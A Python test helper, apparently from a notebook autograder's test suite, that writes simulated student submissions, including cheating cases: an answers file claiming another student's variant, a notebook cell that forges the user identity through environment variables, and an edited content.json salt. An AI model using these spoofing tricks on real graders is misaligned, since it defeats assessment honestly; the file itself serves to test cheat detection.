    by_id = {ex.id: ex for ex in module.meta.exercises}
    return {ex: {i: gold(items[i], by_id[ex].kind) for i in ids} for ex, ids in asked.items()}


def write_variant_corpus(course: Path, assignment: str, bank: Bank, salt: str) -> dict[str, dict[str, Any]]:
    """Write the :data:`VARIANT_TRAINEES`' submissions into ``course/submitted`` from the course's release
    (built with variants on). Returns each one's saved answers (exercise -> item -> answer), all right for
    the items they name:

    * ``ana``, ``ben``: their own variants, answered right;
    * ``claims_other``: ana's items, answered right (an answers file claiming another variant's items);
    * ``forged_id``: a cell before the exercises sets ``JUPYTERHUB_USER`` and ``FRAMELAB_STUDENT`` to ana, so
      the kernel shows (and its own tests grade) ana's items, answered right;
    * ``edited_notebook``: ``content.json`` edited to draw with another salt, so the notebook shows other
      items, and those answered right.
    """
    from framelab.bank.variants import variant

    module = bank.module(assignment)
    release = course / "release" / assignment
    ana = variant(module, bank, "ana", salt)
    claims = {
        "ana": ana,
        "ben": variant(module, bank, "ben", salt),
        "claims_other": ana,
        "forged_id": ana,
        "edited_notebook": variant(module, bank, "edited_notebook", salt + "-edited"),
    }
    out = {}
    for who, asked in claims.items():
        folder = course / "submitted" / who / assignment
        shutil.rmtree(folder, ignore_errors=True)
        shutil.copytree(release, folder)
        out[who] = _right_for(module, bank, asked)
        answers = {"format": store.FORMAT, "exercises": out[who]}
        (folder / store.FILENAME).write_text(json.dumps(answers), encoding="utf-8")
        if who == "forged_id":
            nb_path = folder / f"{assignment}.ipynb"
            nb = nbformat.read(nb_path, as_version=4)
            forged = 'import os\nos.environ["JUPYTERHUB_USER"] = os.environ["FRAMELAB_STUDENT"] = "ana"'
            at = next(n for n, c in enumerate(nb.cells) if c.get("metadata", {}).get("nbgrader", {}).get("solution"))
            nb.cells.insert(at, nbformat.v4.new_code_cell(forged))
            nbformat.write(nb, nb_path)
        if who == "edited_notebook":
            content = json.loads((folder / "content.json").read_text(encoding="utf-8"))
            for spec in content["exercises"].values():
                if spec.get("variant"):
                    spec["variant"]["salt"] = salt + "-edited"
            (folder / "content.json").write_text(json.dumps(content), encoding="utf-8")
        (folder / "timestamp.txt").write_text("2026-11-29 12:00:00.000000 UTC", encoding="utf-8")
    return out
